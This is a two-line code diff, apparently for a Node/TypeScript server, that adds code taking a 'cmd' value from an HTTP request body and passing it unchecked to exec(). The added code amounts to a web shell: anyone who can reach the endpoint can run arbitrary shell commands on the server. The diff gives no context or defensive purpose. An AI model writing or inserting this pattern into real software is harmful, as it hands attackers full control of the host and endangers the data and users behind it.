@@ -1,0 +1,2 @@
+const cmd = req.body.cmd as string;
+exec(cmd);
